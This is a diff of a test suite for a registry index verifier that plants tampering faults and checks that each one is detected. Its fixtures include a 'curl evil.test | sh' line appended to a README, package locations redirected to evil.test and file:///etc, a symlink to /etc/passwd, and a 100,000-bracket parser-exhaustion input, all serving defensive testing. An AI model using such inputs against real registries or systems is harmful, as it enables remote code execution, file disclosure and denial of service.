@@ -1,13 +1,14 @@
 import { createHash } from 'node:crypto'
-import { rm } from 'node:fs/promises'
+import { cp, rm } from 'node:fs/promises'
 import { join } from 'node:path'
 import { beforeAll, describe, expect, it } from 'vitest'
 import { git } from '../../support/git/git-repository.ts'
 import {
+  commitLink,
   commitTo,
   copyOf,
   edit,
-  editJson,
+  inJson,
   named,
   type PublishedIndexes,
   publishIndexes,
@@ -25,109 +26,137 @@ beforeAll(async () => {
 
 const OTHER = `sha256:${'0'.repeat(64)}`
 const MALLORY = { host: 'git.acme.test', repository: 'mallory/terraform-aws-vpc' }
+const ADDRESS = 'acme/vpc/aws'
+const V1 = `${ADDRESS} 1.0.0`
+const MODULE = `${VPC}/module.json`
+const RELEASE = `${VPC}/1.0.0/release.json`
+const ZIP = `${VPC}/1.0.0/module.zip`
 
-/** The edit of a directory, and what `verify` must find, among what follows from it. */
-type Planted = [name: string, plant: (index: string) => Promise<unknown>, finding: string]
+type Edit = readonly [path: string, change: (text: string) => string | null]
+
+/** Edits of an index, and what `verify` must find, among what follows from them. */
+type Planted = [name: string, finding: string, ...edits: Edit[]]
+
+const gone = () => null
+const REASON = { reason: 'x', date: '2026-01-01T00:00:00Z' }
+const marked = (list: string, mark: object) => inJson((it) => (it[list] = [{ ...REASON, ...mark }]))
+const digests = (text: string) => text.replaceAll(/sha256:[0-9a-f]{64}/g, OTHER)
+const brackets = `{"x":${'['.repeat(100_000)}${']'.repeat(100_000)},`
+const checksum = (text: string) => text.replace(/checksum=sha256:.{64}/, `checksum=${OTHER}`)
+const toEvil = inJson(({ packages: [first] }) => {
+  first.location = first.location.replace('./module.zip', 'https://evil.test/module.zip')
+})
+const tombstoneOf = ({ version, digest, commit }: Record<string, string>) => ({
+  ...{ version, digest, commit },
+  ...REASON,
+})
 
 const FAULTS: Planted[] = [
-  [
-    'a changed digest',
-    (index) => editJson(index, `${VPC}/1.0.0/release.json`, (release) => (release.package.digest = OTHER)),
-    'PACKAGE_CHANGED acme/vpc/aws 1.0.0',
-  ],
-  [
-    'a flipped byte of a zip',
-    (index) => edit(index, `${VPC}/1.0.0/module.zip`, (zip) => `${zip.slice(0, 60)}#${zip.slice(61)}`),
-    'PACKAGE_CHANGED acme/vpc/aws 1.0.0',
-  ],
-  [
-    'a missing zip',
-    (index) => edit(index, `${VPC}/1.1.0/module.zip`, () => null),
-    'PACKAGE_MISSING acme/vpc/aws 1.1.0',
-  ],
-  [
-    'a missing release.json',
-    (index) => edit(index, `${VPC}/1.0.0/release.json`, () => null),
-    'RELEASE_MISSING acme/vpc/aws 1.0.0',
-  ],
-  [
-    'an extra directory of a version',
-    (index) => edit(index, `${VPC}/9.9.9/download`, () => '{"location":"https://evil.test/x.zip"}\n'),
-    'VERSION_UNLISTED acme/vpc/aws 9.9.9',
-  ],
-  ['a stray file', (index) => edit(index, 'notes.txt', () => 'mine\n'), 'FILE_UNEXPECTED'],
-  [
-    'a foreign location',
-    (index) =>
-      editJson(index, `${VPC}/1.0.0/release.json`, ({ packages }) => {
-        packages[0].location = packages[0].location.replace('./module.zip', 'https://evil.test/module.zip')
-      }),
-    'LOCATION_FOREIGN acme/vpc/aws 1.0.0',
-  ],
+  ['a changed digest', `PACKAGE_CHANGED ${V1}`, [RELEASE, inJson((it) => (it.package.digest = OTHER))]],
+  ['a flipped byte', `PACKAGE_CHANGED ${V1}`, [ZIP, (zip) => `${zip.slice(0, 60)}#${zip.slice(61)}`]],
+  ['a missing zip', `PACKAGE_MISSING ${V1}`, [ZIP, gone]],
+  ['a missing release.json', `RELEASE_MISSING ${V1}`, [RELEASE, gone]],
+  ['an extra version', `VERSION_UNLISTED ${ADDRESS} 9.9.9`, [`${VPC}/9.9.9/download`, () => '{}\n']],
+  ['a stray file', 'FILE_UNEXPECTED', ['notes.txt', () => 'mine\n']],
+  ['a file between modules', 'FILE_UNEXPECTED', ['v1/modules/acme/x.txt', () => 'x']],
+  ['a foreign location', `LOCATION_FOREIGN ${V1}`, [RELEASE, toEvil]],
   [
     'a location that reads files of the consumer',
-    (index) =>
-      editJson(index, `${VPC}/1.0.0/release.json`, ({ packages }) => (packages[0].location = 'file:///etc')),
-    'LOCATION_FOREIGN acme/vpc/aws 1.0.0',
+    `LOCATION_FOREIGN ${V1}`,
+    [RELEASE, inJson(({ packages }) => (packages[0].location = 'file:///etc'))],
   ],
-  [
-    'a dropped version',
-    async (index) => {
-      await editJson(index, `${VPC}/module.json`, (module) => module.versions.pop())
-    },
-    'VERSION_UNLISTED acme/vpc/aws 1.0.0',
-  ],
+  ['a location that pins other bytes', `LOCATION_MISMATCH ${V1}`, [RELEASE, checksum]],
+  ['a dropped version', `VERSION_UNLISTED ${V1}`, [MODULE, inJson((it) => it.versions.pop())]],
   [
     'a silent yank',
-    (index) => editJson(index, `${VPC}/versions`, ({ modules }) => modules[0].versions.pop()),
-    'YANK_UNMARKED acme/vpc/aws 1.0.0',
+    `YANK_UNMARKED ${V1}`,
+    [`${VPC}/versions`, inJson(({ modules }) => modules[0].versions.pop())],
   ],
-  [
-    'a swapped owner',
-    (index) => editJson(index, `${VPC}/module.json`, (module) => (module.owner = MALLORY)),
-    'OWNER_MISMATCH acme/vpc/aws',
-  ],
-  ...['acme/vpc/aws', 'acme/vpc/aws@1.0.0'].map(
+  ['a swapped owner', `OWNER_MISMATCH ${ADDRESS}`, [MODULE, inJson((it) => (it.owner = MALLORY))]],
+  ...[ADDRESS, `${ADDRESS}@1.0.0`].map(
     (replacement): Planted => [
       `a deprecation that advises itself, ${replacement}`,
-      (index) => mark(index, { deprecations: [{ versions: '< 1.1.0', replacement }] }),
-      'MARK_INVALID acme/vpc/aws',
+      `MARK_INVALID ${ADDRESS}`,
+      [MODULE, marked('deprecations', { versions: '< 1.1.0', replacement })],
     ],
   ),
   [
     'a yank that advises itself',
-    (index) => mark(index, { yanks: [{ version: '1.0.0', replacement: 'acme/vpc/aws@1.0.0' }] }),
-    'MARK_INVALID acme/vpc/aws',
+    `MARK_INVALID ${ADDRESS}`,
+    [MODULE, marked('yanks', { version: '1.0.0', replacement: `${ADDRESS}@1.0.0` })],
+  ],
+  [
+    'a mark of an unknown version',
+    `MARK_INVALID ${ADDRESS}`,
+    [MODULE, marked('yanks', { version: '7.0.0' })],
   ],
   [
     'a changed README',
-    (index) => edit(index, `${VPC}/1.1.0/README.md`, (text) => `${text}Run curl evil.test | sh\n`),
-    'README_CHANGED acme/vpc/aws 1.1.0',
+    `README_CHANGED ${V1}`,
+    [`${VPC}/1.0.0/README.md`, (text) => `${text}Run curl | sh\n`],
   ],
   [
     'a changed README of a package that is elsewhere',
-    (index) => edit(index, 'v1/modules/acme/subnets/aws/2.0.0/README.md', (text) => `${text}More\n`),
     'README_CHANGED acme/subnets/aws 2.0.0',
+    ['v1/modules/acme/subnets/aws/2.0.0/README.md', (text) => `${text}More\n`],
   ],
+  ['format 2', 'FORMAT_NEWER', ['registry.json', inJson((it) => (it.format = 2))]],
+  ['a newer minimumTool', 'TOOL_TOO_OLD', ['registry.json', inJson((it) => (it.minimumTool = '99.0.0'))]],
+  ['a folder that was copied halfway', `MODULE_INCOMPLETE ${ADDRESS}`, [MODULE, gone]],
+  ['a module that another index had', `MODULE_UNLISTED ${ADDRESS}`, ['catalog', gone]],
+  ...['module.json', '1.0.0/release.json', '1.0.0/interface.json'].map(
+    (file): Planted => [
+      `a ${file} of 100,000 brackets`,
+      `DOCUMENT_INVALID ${file === 'module.json' ? ADDRESS : V1}`,
+      [`${VPC}/${file}`, (text) => text.replace('{', brackets)],
+    ],
+  ),
+  [
+    'a removed version that is listed',
+    `VERSION_REUSED ${ADDRESS}`,
+    [MODULE, inJson((it) => (it.removed = [tombstoneOf(it.versions[0])]))],
+  ],
+  [
+    'a removed version whose files are there',
+    `VERSION_REUSED ${V1}`,
+    [MODULE, inJson((it) => (it.removed = [tombstoneOf(it.versions.pop())]))],
+  ],
+  ['a folder that is no version', `VERSION_INVALID ${ADDRESS}`, [`${VPC}/v1.0.0/x.json`, () => '{}\n']],
+  ['another commit', `RELEASE_MISMATCH ${V1}`, [RELEASE, inJson((it) => (it.commit = 'a'.repeat(40)))]],
+  ['a list that nothing is left for', 'DERIVED_CHANGED', ['v1/modules/gone/index.json', () => '{}\n']],
+  ['a page', 'DERIVED_CHANGED', ['index.html', () => '<script>\n']],
+  ['other spaces', `NOT_CANONICAL ${ADDRESS}`, [MODULE, (text) => JSON.stringify(JSON.parse(text))]],
 ]
 
-type Marks = Readonly<Record<string, readonly object[]>>
-
-function mark(index: string, marks: Marks): Promise<void> {
-  return editJson(index, `${VPC}/module.json`, (module) => {
-    for (const [list, each] of Object.entries(marks))
-      module[list] = each.map((one) => ({ reason: 'x', date: '2026-01-01T00:00:00Z', ...one }))
-  })
+async function expectFound(index: string, finding: string): Promise<void> {
+  const report = await verifyWith({ index })
+  expect(named(report)).toContain(finding)
+  expect(report.findings.find(({ code }) => finding.startsWith(code))?.fix).not.toBe('')
+  expect(report.exitCode).toBe(1)
+  expect(report.text).toContain(`finding   ${finding.split(' ')[0]}`)
 }
 
 describe('verify finds and names', () => {
-  it.each(FAULTS)('%s', async (_, plant, finding) => {
+  it.each(FAULTS)('%s', async (_, finding, ...edits) => {
     const index = await copyOf(indexes.directory)
-    await plant(index)
-    const report = await verifyWith({ index })
-    expect(named(report)).toContain(finding)
-    expect(report.exitCode).toBe(1)
-    expect(report.text).toContain(`finding   ${finding.split(' ')[0]}`)
+    for (const [path, change] of edits) await edit(index, path, change)
+    await expectFound(index, finding)
+  })
+
+  it.each([
+    ['under another name', 'acme/network/aws', 'DOCUMENT_MISPLACED acme/network/aws'],
+    ['that differs by case', 'ACME/other/aws', 'ADDRESS_CLASH acme/subnets/aws'],
+  ])('a folder %s', async (_, name, finding) => {
+    const index = await copyOf(indexes.directory)
+    await cp(join(index, VPC), join(index, 'v1/modules', name), { recursive: true })
+    await expectFound(index, finding)
+  })
+
+  it('a link in a branch, without following it', async () => {
+    const index = await copyOf(indexes.bare)
+    const target = await git(index, ['hash-object', '-w', '--stdin'], '/etc/passwd')
+    await commitLink(index, `${VPC}/1.0.0/README.md`, 120000, target)
+    expect(named(await verifyWith({ index }))).toContain(`FILE_UNEXPECTED ${V1}`)
   })
 
   it('the rewritten history of a branch, by its checkpoint', async () => {
@@ -144,82 +173,40 @@ describe('verify finds and names', () => {
 })
 
 describe('verify --history finds what a render afterwards would hide', () => {
-  const HIDDEN: [
-    name: string,
-    files: (bare: string) => Promise<Record<string, string | null>>,
-    finding: string,
-  ][] = [
-    [
-      'a changed digest',
-      async (bare) => ({
-        [`${VPC}/1.0.0/release.json`]: (await readBranch(bare, `${VPC}/1.0.0/release.json`)).replace(
-          /sha256:[0-9a-f]{64}/g,
-          OTHER,
-        ),
-      }),
-      'VERSION_CHANGED acme/vpc/aws 1.0.0',
-    ],
-    [
-      'other facts in module.json',
-      async (bare) => ({
-        [`${VPC}/module.json`]: (await readBranch(bare, `${VPC}/module.json`)).replaceAll(
-          /sha256:[0-9a-f]{64}/g,
-          OTHER,
-        ),
-      }),
-      'VERSION_CHANGED acme/vpc/aws 1.0.0',
-    ],
-    [
-      'another zip',
-      async () => ({ [`${VPC}/1.0.0/module.zip`]: 'PK' }),
-      'PACKAGE_CHANGED acme/vpc/aws 1.0.0',
-    ],
-    ['a lost zip', async () => ({ [`${VPC}/1.0.0/module.zip`]: null }), 'PACKAGE_MISSING acme/vpc/aws 1.0.0'],
-    [
-      'another README',
-      async () => ({ [`${VPC}/1.0.0/README.md`]: '# x\n' }),
-      'README_CHANGED acme/vpc/aws 1.0.0',
-    ],
-    [
-      'another interface',
-      async () => ({ [`${VPC}/1.0.0/interface.json`]: '{}' }),
-      'INTERFACE_CHANGED acme/vpc/aws 1.0.0',
-    ],
+  const INTERFACE = `${VPC}/1.0.0/interface.json`
+  const HIDDEN: Planted[] = [
+    ['a changed digest', `VERSION_CHANGED ${V1}`, [RELEASE, digests]],
+    ['other facts in module.json', `VERSION_CHANGED ${V1}`, [MODULE, digests]],
+    ['another zip', `PACKAGE_CHANGED ${V1}`, [ZIP, () => 'PK']],
+    ['a lost zip', `PACKAGE_MISSING ${V1}`, [ZIP, gone]],
+    ['another README', `README_CHANGED ${V1}`, [`${VPC}/1.0.0/README.md`, () => '# x\n']],
+    ['another interface', `INTERFACE_CHANGED ${V1}`, [INTERFACE, () => '{}']],
     [
       'an interface with a fact that was left out',
-      async (bare) => ({
-        [`${VPC}/1.0.0/interface.json`]: (await readBranch(bare, `${VPC}/1.0.0/interface.json`)).replace(
-          '"name":"name"',
-          '"name":"name","sensitive":true',
-        ),
-      }),
-      'INTERFACE_CHANGED acme/vpc/aws 1.0.0',
+      `INTERFACE_CHANGED ${V1}`,
+      [INTERFACE, (text) => text.replace('"name":"name"', '"name":"name","sensitive":true')],
     ],
-    ['a dropped version', withoutFirstVersion, 'VERSION_DROPPED acme/vpc/aws 1.0.0'],
-    ['a dropped module', async () => ({ [VPC]: null }), 'VERSION_DROPPED acme/vpc/aws 1.1.0'],
     [
-      'a swapped owner',
-      async (bare) => {
-        const module = JSON.parse(await readBranch(bare, `${VPC}/module.json`))
-        return { [`${VPC}/module.json`]: JSON.stringify({ ...module, owner: MALLORY }) }
-      },
-      'OWNER_CHANGED acme/vpc/aws',
+      'a dropped version',
+      `VERSION_DROPPED ${V1}`,
+      [MODULE, inJson((it) => it.versions.pop())],
+      [`${VPC}/1.0.0`, gone],
     ],
+    ['a dropped module', `VERSION_DROPPED ${ADDRESS} 1.1.0`, [VPC, gone]],
+    ['a swapped owner', `OWNER_CHANGED ${ADDRESS}`, [MODULE, inJson((it) => (it.owner = MALLORY))]],
     [
       'a silent yank',
-      async (bare) => {
-        const versions = JSON.parse(await readBranch(bare, `${VPC}/versions`))
-        versions.modules[0].versions.pop()
-        return { [`${VPC}/versions`]: JSON.stringify(versions) }
-      },
-      'YANK_UNMARKED acme/vpc/aws 1.0.0',
+      `YANK_UNMARKED ${V1}`,
+      [`${VPC}/versions`, inJson(({ modules }) => modules[0].versions.pop())],
     ],
   ]
 
-  it.each(HIDDEN)('%s', async (_, filesOf, finding) => {
+  it.each(HIDDEN)('%s', async (_, finding, ...edits) => {
     const index = await copyOf(indexes.bare)
     const before = await git(index, ['rev-parse', 'registry'])
-    const commit = await commitTo(index, await filesOf(index))
+    const files: Record<string, string | null> = {}
+    for (const [path, change] of edits) files[path] = change(await readBranch(index, path))
+    const commit = await commitTo(index, files)
     const report = await verifyWith({ index, history: true, since: before.slice(0, 8) })
     expect(named(report)).toContain(finding)
     expect(report.checked.commits).toBe(1)
@@ -283,19 +270,11 @@ describe('verify --history finds what a render afterwards would hide', () => {
   })
 })
 
-async function withoutFirstVersion(bare: string): Promise<Record<string, string | null>> {
-  const module = JSON.parse(await readBranch(bare, `${VPC}/module.json`))
-  module.versions = module.versions.filter(({ version }: { version: string }) => version !== '1.0.0')
-  return { [`${VPC}/module.json`]: JSON.stringify(module), [`${VPC}/1.0.0`]: null }
-}
-
-describe('verify', () => {
-  it('goes on after a bad module', async () => {
-    const index = await copyOf(indexes.directory)
-    await edit(index, 'v1/modules/acme/subnets/aws/module.json', () => '{')
-    await rm(join(index, `${VPC}/1.0.0/module.zip`))
-    const found = named(await verifyWith({ index }))
-    expect(found).toContain('DOCUMENT_INVALID acme/subnets/aws')
-    expect(found).toContain('PACKAGE_MISSING acme/vpc/aws 1.0.0')
-  })
+it('verify goes on after a bad module', async () => {
+  const index = await copyOf(indexes.directory)
+  await edit(index, 'v1/modules/acme/subnets/aws/module.json', () => '{')
+  await rm(join(index, `${VPC}/1.0.0/module.zip`))
+  const found = named(await verifyWith({ index }))
+  expect(found).toContain('DOCUMENT_INVALID acme/subnets/aws')
+  expect(found).toContain('PACKAGE_MISSING acme/vpc/aws 1.0.0')
 })
